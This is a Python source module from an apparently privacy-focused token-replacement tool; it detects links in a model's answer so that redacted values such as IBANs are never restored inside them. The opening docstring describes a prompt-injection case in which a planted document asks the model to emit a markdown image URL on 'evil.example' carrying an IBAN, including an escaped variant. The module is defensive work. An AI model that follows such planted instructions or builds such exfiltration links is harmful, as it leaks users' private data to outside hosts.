"""Tracks whether a position of an answer is inside a link, where values must not be restored.

A planted document can ask the model for `![x](https://evil.example/?q=IBAN_...)`; a client that loads the picture would
disclose the value. Therefore tokens inside links are not restored. A link of the user that contains an identifier
is replaced as a whole by one `URL` token, which may be restored, because the user chose its destination.

A link begins at a scheme, `//`, `www.`, two backslashes or a markdown target `](`. It ends at white space, `<`, `>`
or `"`. A link in quotes or angle brackets ends with them, because browsers accept spaces there. The definition is
intentionally wider than that of any renderer. Escapes do not hide a link: a JSON document may spell one as
`https:\\u002f\\/evil.example`, also in a string within a string, so the text is read a second time with escapes undone.

A site may allow values in links to its own hosts (`restore.link_hosts`): only after `https://`, the host, and the
`/`, `?` or `#` after it, so that no following text can change the destination.

`LinkContext` accepts text in chunks of any size with the same result. `replace` and `restore` share it, so that every
inserted token can be restored.
"""

from __future__ import annotations

import re
from collections.abc import Collection

from ..domain.entities import EntityType, Mark

_WORDS = ("https?:", "ftps?:", "wss?:", "file:", "data:", "javascript:", r"www\.")
# First letters spelled out: an expression with few initial characters matches in a tenth of the time.
_BEGUN = (f"{first}(?i:{word[1:]})" for word in _WORDS for first in (word[0], word[0].upper()))
_OPENER = re.compile("|".join((*_BEGUN, "//", r"\\\\", r"\]\(")))
_SCHEMES = ("http", "https", "ftp", "ftps", "ws", "wss", "file", "data", "javascript")
_MAX_SCHEME = max(map(len, _SCHEMES))
_MAX_OPENER = 12  # characters: a quote and `javascript:`
_TARGET = "]("
# At any depth of JSON in JSON. The bounds keep matching linear; deeper nesting does not occur in practice.
_ESCAPE = re.compile(r"\\{1,16}(?:u([0-9A-Fa-f]{4})|x([0-9A-Fa-f]{2})|([/:.()\[\]<>\"']))")
_ESCAPE_BEGUN = re.compile(r"\\{1,16}(?:u[0-9A-Fa-f]{0,3}|x[0-9A-Fa-f]?)?\Z")
_END = re.compile(r"""[\s<>"]""")
_HOST = re.compile(r"https://([a-z0-9.-]{1,253})(?::[0-9]{1,5})?[/?#]", re.IGNORECASE)
_MAX_HOST = 272  # characters, including delimiters
_QUOTED_END = {'"': re.compile('"'), "'": re.compile("'"), "<": re.compile(">")}


def has_link_hint(text: str) -> bool:
    """Return False if `text` cannot contain the beginning of a link, which is the common case. Fast."""
    # Searching one character is several times as fast as searching two.
    if ("/" in text and "//" in text) or ("]" in text and "](" in text) or ("\\" in text and "\\\\" in text):
        return True
    colon = text.find(":")
    while colon >= 0:
        if text[max(0, colon - _MAX_SCHEME) : colon].lower().endswith(_SCHEMES):
            return True
        colon = text.find(":", colon + 1)
    return "." in text and "www." in text.lower()


class _PlainLinkContext:
    """Tracks whether the text so far ends inside a link, without undoing escapes."""

    def __init__(self, hosts: Collection[str] = ()) -> None:
        self._hosts = hosts
        self._link = ""  # beginning of the current link; only stored if hosts are allowed
        self._end: re.Pattern[str] | None = None  # end of the current link; None outside of links
        self._is_bare_target = False  # directly after `](`
        self._tail = ""  # last characters outside of links: a link's beginning may be split over two chunks
        self._at = 0
        self._opened_at = 0
        self.regions: list[tuple[int, int]] = []
        """Spans of all links so far, in the whole text; an open link is added by `close`."""

    def feed(self, text: str) -> None:
        """Add plain text."""
        if self._end is None and not has_link_hint(seen := self._tail + text):
            self._tail = seen[-_MAX_OPENER:]
            self._at += len(text)
            return
        position = 0
        while position < len(text):
            position = self._enter(text, position) if self._end is None else self._leave(text, position)

    def close(self) -> None:
        """End the text, and with it an open link."""
        if self._end is not None:
            self.regions.append((self._opened_at, self._at))
            self._end = None

    def may_restore(self, label: EntityType | Mark) -> bool:
        """Return whether a token of `label` may be restored at this position."""
        return self._end is None or (label is Mark.URL and self._is_bare_target)

    @property
    def is_allowed(self) -> bool:
        """The text ends outside of links, or in a link that certainly leads to an allowed host."""
        if self._end is None:
            return True
        host = _HOST.match(self._link)
        return host is not None and host.group(1).lower() in self._hosts

    def restored(self, label: EntityType | Mark) -> None:
        """Record that a value replaced a token; the value is not passed to `feed`."""
        if label is Mark.URL and self._end is None:
            self._end = _QUOTED_END.get(self._tail[-1:], _END)  # text directly after a link belongs to it
        self._tail = ""
        self._is_bare_target = False

    def resume(self, other: _PlainLinkContext) -> None:
        """Continue from the state of another context."""
        self._end, self._is_bare_target, self._tail = other._end, other._is_bare_target, other._tail
        self._link = other._link

    def _reset(self) -> None:
        self._end, self._is_bare_target, self._tail = None, False, ""

    def _enter(self, text: str, position: int) -> int:
        """Read until a link begins; return the position after the text read."""
        tail = self._tail
        match = _OPENER.search(tail + text[position : position + _MAX_OPENER]) if tail else None
        if match is not None and match.start() < len(tail):
            start, end = position + match.start() - len(tail), position + match.end() - len(tail)
            before = match.string[: match.start()]
        elif (match := _OPENER.search(text, position)) is not None:
            start, end = match.span()
            before = text[position:start] or tail
        else:
            self._tail = (tail + text[position:])[-_MAX_OPENER:]
            self._at += len(text) - position
            return len(text)
        self._is_bare_target = match.group() == _TARGET
        self._end = _END if self._is_bare_target else _QUOTED_END.get(before[-1:], _END)
        self._link = "" if self._is_bare_target else match.group()
        self._opened_at = self._at + (end if self._is_bare_target else start) - position
        self._at += end - position
        self._tail = ""
        return end

    def _leave(self, text: str, position: int) -> int:
        """Read until the link ends; return the position after the text read."""
        assert self._end is not None
        self._is_bare_target = False
        match = self._end.search(text, position)
        if self._hosts and len(self._link) < _MAX_HOST:
            self._link += text[position : match.start() if match is not None else position + _MAX_HOST]
        if match is None:
            self._at += len(text) - position
            return len(text)
        self.regions.append((self._opened_at, self._at + match.start() - position))
        # The character that ends a bare link may be the opening quote of the next one; a closing quote may not.
        self._tail = match.group() if self._end is _END else ""
        self._end = None
        self._at += match.end() - position
        return match.end()


class LinkContext(_PlainLinkContext):
    """Tracks whether the text so far ends inside a link, as written or with its escapes undone."""

    def __init__(self, hosts: Collection[str] = ()) -> None:
        super().__init__(hosts)
        self._undone: _PlainLinkContext | None = None  # reads with escapes undone, from the first backslash on
        self._begun = ""  # an incomplete escape

    def feed(self, text: str) -> None:
        """Add plain text."""
        if self._undone is not None or "\\" in text:
            self._feed_undone(text)
        super().feed(text)

    def may_restore(self, label: EntityType | Mark) -> bool:
        """Return whether a token of `label` may be restored at this position."""
        return super().may_restore(label) and (self._undone is None or self._undone.may_restore(label))

    @property
    def is_allowed(self) -> bool:
        """Neither reading ends inside a link to another host."""
        return super().is_allowed and (self._undone is None or self._undone.is_allowed)

    def restored(self, label: EntityType | Mark) -> None:
        """Record that a value replaced a token; the value is not passed to `feed`."""
        super().restored(label)
        if self._undone is not None:
            self._undone.restored(label)
            self._begun = ""

    def _feed_undone(self, text: str) -> None:
        if self._undone is None:
            self._undone = _PlainLinkContext(self._hosts)
            self._undone.resume(self)
        text = self._begun + text
        begun = _ESCAPE_BEGUN.search(text)
        end = begun.start() if begun else len(text)
        self._begun = text[end:]
        self._undone.feed(_ESCAPE.sub(_unescaped, text[:end]))

    def _reset(self) -> None:
        super()._reset()
        if self._undone is not None:
            self._undone._reset()
            self._begun = ""


def _unescaped(escape: re.Match[str]) -> str:
    return escape.group(3) or chr(int(escape.group(1) or escape.group(2), 16))


class JsonLinkContext(LinkContext):
    """Link context of a JSON document's text: escapes are undone, and each string is separate."""

    _PIECE = re.compile(r'\\u[0-9a-fA-F]{4}|\\[^u]|"|[^"\\]+', re.DOTALL)
    _ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}  # noqa: RUF012 - a constant table

    def __init__(self, hosts: Collection[str] = ()) -> None:
        super().__init__(hosts)
        self._partial = ""

    def feed(self, text: str) -> None:
        """Add raw JSON text."""
        text = self._partial + text
        position = 0
        while position < len(text):
            match = self._PIECE.match(text, position)
            if match is None:  # an incomplete escape, or an invalid one
                break
            piece = match.group()
            if piece == '"':
                self._reset()
            elif piece[0] == "\\":
                super().feed(chr(int(piece[2:], 16)) if piece[1] == "u" else self._ESCAPES.get(piece[1], piece[1]))
            else:
                super().feed(piece)
            position = match.end()
        self._partial = text[position:]
        if len(self._partial) >= 6:  # longer than any escape: not JSON, so read as it is
            super().feed(self._partial)
            self._partial = ""

    def restored(self, label: EntityType | Mark) -> None:
        """See `LinkContext.restored`; an incomplete escape before a token is discarded."""
        self._partial = ""
        super().restored(label)


def link_regions(text: str) -> list[tuple[int, int]]:
    """Return the spans of the links in `text`, in order."""
    if not has_link_hint(text):
        return []
    context = _PlainLinkContext()
    context.feed(text)
    context.close()
    return context.regions
